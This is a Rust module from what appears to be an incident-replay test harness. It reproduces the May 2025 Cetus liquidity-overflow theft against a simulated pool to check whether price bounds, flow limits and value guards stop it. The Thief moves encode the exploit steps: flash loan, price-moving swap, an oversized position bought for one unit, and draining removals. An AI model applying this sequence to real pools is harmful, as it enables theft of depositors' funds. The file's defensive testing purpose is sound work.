//! Cetus, May 2025: a position of enormous liquidity for one unit, by a shift that loses bits.
//!
//! # Design
//! - **The flash loan is sold.** On Sui the pool lent by a swap that is paid for at the end of the transaction. Here somebody else lends, and the thief pays the pool at once: the loan is the swap's price
//!   and the one unit that the position costs.
//! - **The liquidity before is one honest user's position**, whose bounds follow from what the pool held, from its price, and from what the loan bought. The incident does not say them.
//! - The price that the guards take for the true one is the pool's own from before, 1.056, of which the file's "about one" is a rounding.
//! - What was removed in three parts was all that the pool held. Each part's liquidity is the least that yields it.

use crate::{
    error::ReplayError,
    honest::{self, Direction, Lived},
    incident::{Action, Expect, Incident, Step},
    outcome::{Guarded, Lost, Outcome},
    run::{self, Cast, Compared, Robbery},
    settings,
    stage::{Build, Move, Stage},
};
use alloy_primitives::{Address, U256};
use alloy_sol_types::{sol, SolValue};
use e2e::{
    bridge::constructor,
    rpc::Receipt,
    tokens::{Fixture, IOracle},
};

sol! {
    #![sol(all_derives)]
    /// The pool.
    interface IConcentratedOverflow {
        function start(uint256 root, address oracle) external;
        function openPosition(uint256 low, uint256 high) external returns (uint256 id);
        function addLiquidity(uint256 id, uint256 liquidity) external returns (uint256 first, uint256 second);
        function removeLiquidity(uint256 id, uint256 liquidity) external returns (uint256 first, uint256 second);
        function swap(uint256 target) external returns (uint256 amountIn, uint256 amountOut);
        function setPriceBounds(uint256 leastWad, uint256 mostWad, uint64 stepBps) external;
        function sqrtPrice() external view returns (uint256);
        function position(uint256 id) external view returns (uint256 low, uint256 high, uint256 liquidity);
    }
}

/// The victim's name.
pub const VICTIM: &str = "concentrated_overflow";
/// Who attacks.
const THIEF: &str = "attacker";
/// Of the second token: it is the measure.
const WAD: U256 = U256::from_limbs([1_000_000_000_000_000_000, 0, 0, 0]);
/// How far from the first guess the honest position's lower bound is looked for.
const GUESSES: u64 = 1_000_000;

/// The pool's guards by their numbers.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[allow(missing_docs)] // The victim says what each is.
pub enum Named {
    Flows = 0,
    Price = 1,
    Value = 2,
    Covered = 3,
}

impl Named {
    /// What has to hold: all but the limits.
    pub const HOLD: [Self; 3] = [Self::Price, Self::Value, Self::Covered];
}

/// The honest position, in the numbers of before.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
#[allow(missing_docs)]
pub struct Honest {
    pub root: U256,
    pub low: U256,
    pub high: U256,
    pub liquidity: U256,
}

fn point() -> U256 {
    U256::ONE << 64
}

/// The first token between two roots, rounded up. Of numbers that fit.
fn first_up(liquidity: U256, low: U256, high: U256) -> U256 {
    (liquidity * (high - low) * point()).div_ceil(low * high)
}

impl Honest {
    /// The position that holds what the pool held, and of which all of the second token is bought by the loan but for one unit.
    ///
    /// # Errors
    /// A [`ReplayError`] when there is none near.
    pub fn of(incident: &Incident) -> Result<Self, ReplayError> {
        let root = incident.state("pool.sqrt_price_x64", None)?;
        let first = incident.state("pool.HASUI", Some("HASUI"))?;
        let second = incident.state("pool.SUI", Some("SUI"))?;
        let paid = incident.number(&incident.capital[0].amount, "the loan")? - U256::ONE;
        let guess = second * point() * point() / (paid * root);
        for distance in 0..GUESSES {
            for low in [guess + U256::from(distance), guess - U256::from(distance)] {
                let liquidity = (second * point()).div_ceil(root - low);
                let bought = liquidity * (root - low) / point();
                if first_up(liquidity, low, root) == paid && bought == second {
                    let scaled = liquidity * point();
                    let high = root * scaled / (scaled - first * root);
                    return Ok(Self {
                        root,
                        low,
                        high,
                        liquidity,
                    });
                }
            }
        }
        Err(ReplayError::Missing(
            "a position that holds what the pool held".to_owned(),
        ))
    }

    /// The price of before, with 18 decimals.
    #[must_use]
    pub fn price_wad(&self) -> U256 {
        price_wad(self.root)
    }
}

fn price_wad(root: U256) -> U256 {
    root * root * WAD / (point() * point())
}

/// What the pool's steps are.
pub struct Thief {
    /// The oracle, when the thief moves it after the swap to where the pool's price is.
    pub moves: Option<Address>,
}

impl Cast for Thief {
    fn moves(&self, stage: &mut Stage, incident: &Incident, step: &Step) -> Result<Vec<Move>, ReplayError> {
        let pool = stage.victim;
        let id = U256::ONE;
        Ok(match step.action {
            Action::FlashLoan => {
                let loan = incident.amount(step)?;
                let target = incident.number(&step.expect[0].figure, "the price after the swap")?;
                let mut moves = vec![stage.lends(step.n, "HASUI", THIEF, loan)?];
                moves.extend(stage.approves(step.n, THIEF, "HASUI", loan)?);
                let swap = IConcentratedOverflow::swapCall { target };
                moves.push(Move::call(step.n, THIEF, pool, &swap));
                if let Some(oracle) = self.moves {
                    let call = IOracle::setCall {
                        asset: stage.token("HASUI")?,
                        wad: price_wad(target),
                    };
                    moves.push(Move::call(step.n, THIEF, oracle, &call));
                }
                moves
            }
            Action::OpenPosition => {
                let (low, high) = bounds(incident)?;
                let call = IConcentratedOverflow::openPositionCall { low, high };
                vec![Move::call(step.n, THIEF, pool, &call)]
            }
            Action::AddLiquidity => {
                let liquidity = incident.arg_number(step, "liquidity")?;
                let call = IConcentratedOverflow::addLiquidityCall { id, liquidity };
                vec![Move::call(step.n, THIEF, pool, &call)]
            }
            Action::RemoveLiquidity => {
                // All that is there: what was held, and what the thief has brought.
                let held = incident.state("pool.HASUI", Some("HASUI"))?;
                let all = held + incident.number(&incident.capital[0].amount, "the loan")?;
                let parts = incident.arg_number(step, "parts")?;
                let part = all / parts;
                let mut moves = Vec::new();
                let mut left = all;
                while !left.is_zero() {
                    let amount = if left < part + part { left } else { part };
                    left -= amount;
                    let liquidity = liquidity_for(amount, bounds(incident)?);
                    let call = IConcentratedOverflow::removeLiquidityCall { id, liquidity };
                    moves.push(Move::call(step.n, THIEF, pool, &call));
                }
                moves
            }
            Action::RepayFlashLoan => vec![stage.returns(step.n, "HASUI", THIEF, incident.amount(step)?)?],
            other => return Err(ReplayError::Missing(format!("a move for {other:?}"))),
        })
    }

    fn reading(&self, stage: &Stage, _: &Incident, expect: &Expect) -> Result<Option<U256>, ReplayError> {
        match expect.what.as_str() {
            "pool.sqrt_price_x64" => Ok(Some(stage.view(&IConcentratedOverflow::sqrtPriceCall {})?)),
            "position.liquidity" => {
                let call = IConcentratedOverflow::positionCall { id: U256::ONE };
                Ok(Some(stage.view(&call)?.liquidity))
            }
            "attacker.profit" => {
                let symbol = expect.asset.as_deref().unwrap_or_default();
                Ok(Some(stage.holds(symbol, THIEF)?))
            }
            _ => Ok(None),
        }
    }
}

fn bounds(incident: &Incident) -> Result<(U256, U256), ReplayError> {
    Ok((
        incident.state("position.sqrt_price_low_x64", None)?,
        incident.state("position.sqrt_price_high_x64", None)?,
    ))
}

/// The least liquidity of a range above the price that is this much of the first token.
fn liquidity_for(amount: U256, (low, high): (U256, U256)) -> U256 {
    (amount * low * high).div_ceil(point() * (high - low))
}

/// A pool as it stood, its guards set by what was normal, and the oracle that they ask.
///
/// # Errors
/// A [`ReplayError`].
pub fn open(incident: &Incident, build: Build) -> Result<(Stage, Address), ReplayError> {
    let mut stage = Stage::open(incident, VICTIM, build, |stage| {
        let arguments = (stage.people.governor, stage.token("HASUI")?, stage.token("SUI")?);
        Ok(constructor(&arguments.abi_encode_params()))
    })?;
    let honest = Honest::of(incident)?;
    let (user, _pool) = (stage.people.user, stage.victim);
    let oracle = stage.chain.create(user, Fixture::Oracle.creation_code())?;
    for (symbol, wad) in [("HASUI", honest.price_wad()), ("SUI", WAD)] {
        let asset = stage.token(symbol)?;
        stage
            .chain
            .must(user, oracle, &IOracle::setCall { asset, wad }, "a price")?;
    }
    let start = IConcentratedOverflow::startCall {
        root: honest.root,
        oracle,
    };
    stage.order(user, &start, "a first price")?;
    // Before there is liquidity nothing holds of the guards but their limits, and nothing goes out.
    for flow in &incident.normal.flows {
        let held = incident.number(&flow.held, "what is held")?;
        let busy_day = incident.number(&flow.busy_day, "a busy day")?;
        stage.give(&flow.asset, user, held.saturating_add(honest::enough(busy_day)))?;
        stage.allow(&flow.asset)?;
    }
    if build == Build::Guarded {
        set_guards(&mut stage, incident, &honest)?;
    }
    let position = IConcentratedOverflow::openPositionCall {
        low: honest.low,
        high: honest.high,
    };
    stage.order(user, &position, "an honest position")?;
    let add = IConcentratedOverflow::addLiquidityCall {
        id: U256::ZERO,
        liquidity: honest.liquidity,
    };
    stage.order(user, &add, "honest liquidity")?;
    stage.actor(THIEF)?;
    Ok((stage, oracle))
}

/// R1, R2 and R3. R8's one percent is in the victim.
fn set_guards(stage: &mut Stage, incident: &Incident, honest: &Honest) -> Result<(), ReplayError> {
    let governor = stage.people.governor;
    stage.limit_flows(incident)?;
    let bound = settings::price_bound(incident.price("HASUI")?);
    let whole = U256::from(10_000);
    let call = IConcentratedOverflow::setPriceBoundsCall {
        leastWad: honest.price_wad() * (whole - U256::from(bound.day.down_bps)) / whole,
        mostWad: honest.price_wad() * (whole + U256::from(bound.day.up_bps)) / whole,
        stepBps: bound.transaction.down_bps,
    };
    stage.order(governor, &call, "the bounds of the price")?;
    Ok(())
}

fn lost(stage: &Stage, incident: &Incident) -> Result<Lost, ReplayError> {
    Lost::taken_by(THIEF, stage, incident)
}

/// What the oracle says of the first token while the attack is on.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Oracle {
    /// The price of before.
    Before,
    /// After the swap the price that it made: an oracle that asks the pool.
    Moved,
}

/// The attack on the guarded pool.
///
/// # Errors
/// A [`ReplayError`].
pub fn rob(incident: &Incident, shadow: &[Named], price: Oracle) -> Result<Robbery, ReplayError> {
    let (mut stage, oracle) = open(incident, Build::Guarded)?;
    let thief = Thief {
        moves: (price == Oracle::Moved).then_some(oracle),
    };
    let shadow: Vec<_> = shadow.iter().map(|guard| *guard as u8).collect();
    run::rob(&mut stage, &thief, incident, &shadow, lost)
}

/// The steps on the pool without guards, each compared with what the file expects.
///
/// # Errors
/// A [`ReplayError`].
pub fn rehearse(incident: &Incident) -> Result<(Compared, Lost), ReplayError> {
    let (mut stage, _) = open(incident, Build::Unguarded)?;
    run::lose(&mut stage, &Thief { moves: None }, incident, lost)
}

/// An honest swap moves the root of the price by no more than one part in so many, and so the price by a percent: who would move it by more removes liquidity, or swaps elsewhere.
const HONEST_IMPACT: u64 = 200;

/// A busy day's flows: what comes in is added to the position, what goes out is swapped for or, every other time, removed. The market's price goes with the pool's.
fn live(incident: &Incident, build: Build) -> Result<Lived, ReplayError> {
    let (mut stage, oracle) = open(incident, build)?;
    let range = Honest::of(incident)?;
    let mut swaps = false;
    honest::live(&mut stage, incident, |stage, symbol, flow| {
        let (user, pool) = (stage.people.user, stage.victim);
        let root = stage.view(&IConcentratedOverflow::sqrtPriceCall {})?;
        let asset = stage.token("HASUI")?;
        let wad = price_wad(root);
        stage
            .chain
            .must(user, oracle, &IOracle::setCall { asset, wad }, "a price")?;
        let (id, is_first, amount) = (U256::ZERO, symbol == "HASUI", flow.amount);
        let liquidity = if is_first {
            amount * root * range.high / (point() * (range.high - root))
        } else {
            amount * point() / (root - range.low)
        };
        let receipt: Receipt = match flow.direction {
            Direction::Deposit => {
                let call = IConcentratedOverflow::addLiquidityCall { id, liquidity };
                stage.chain.submit(user, pool, &call)?
            }
            Direction::Withdrawal => {
                swaps = !swaps;
                let all = stage.view(&IConcentratedOverflow::positionCall { id })?.liquidity;
                let scaled = all * point();
                let target = if is_first {
                    root * scaled / (scaled - amount * root)
                } else {
                    root - amount * point() / all
                };
                if swaps && target.abs_diff(root) * U256::from(HONEST_IMPACT) <= root {
                    let call = IConcentratedOverflow::swapCall { target };
                    stage.chain.submit(user, pool, &call)?
                } else {
                    let call = IConcentratedOverflow::removeLiquidityCall { id, liquidity };
                    stage.chain.submit(user, pool, &call)?
                }
            }
        };
        Ok(receipt)
    })
}

/// Replays the incident.
///
/// # Errors
/// A [`ReplayError`].
pub fn replay(incident: &Incident) -> Result<Outcome, ReplayError> {
    let (_, lost_unguarded) = rehearse(incident)?;
    let attacks = Guarded {
        all: rob(incident, &[], Oracle::Before)?.variant,
        without_limits: rob(incident, &[Named::Flows], Oracle::Before)?.variant,
        limits_alone: rob(incident, &Named::HOLD, Oracle::Before)?.variant,
    };
    let honest = honest::both("swaps or removes", |build| live(incident, build))?;
    Ok(Outcome {
        cannot: "The swap before is what is refused first. With it in shadow `value_in_out` refuses the position, also at the price that the attack has moved: one unit came in for many of the same token. But \
                 positions are no tokens that the guard could measure: the victim says what they are, by other arithmetic than the pool's. `invariant_monotone` has no form for \
                 ranges; `solvency` stands in for it. An honest swap that moves the price by more than R3's 3.75% is refused"
            .to_owned(),
        ..Outcome::of(incident, lost_unguarded, attacks, honest)
    })
}
